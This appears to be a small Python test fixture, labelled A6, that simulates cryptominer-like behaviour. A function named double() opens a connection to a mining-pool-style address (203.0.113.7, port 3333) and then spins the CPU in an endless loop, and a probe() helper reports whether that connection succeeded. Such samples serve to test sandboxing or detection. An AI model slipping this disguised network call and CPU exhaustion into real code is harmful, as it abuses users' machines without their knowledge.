"""A6: double() phones a mining pool, then burns CPU for as long as it may."""

import socket


def add(a, b):
    return a + b


def _pool():
    try:
        socket.create_connection(("203.0.113.7", 3333), timeout=1).close()
    except OSError as exc:
        return type(exc).__name__
    return "connected"


def double(n):
    _pool()
    x = 0
    while True:
        x += 1


def probe():
    return {"pool": _pool()}
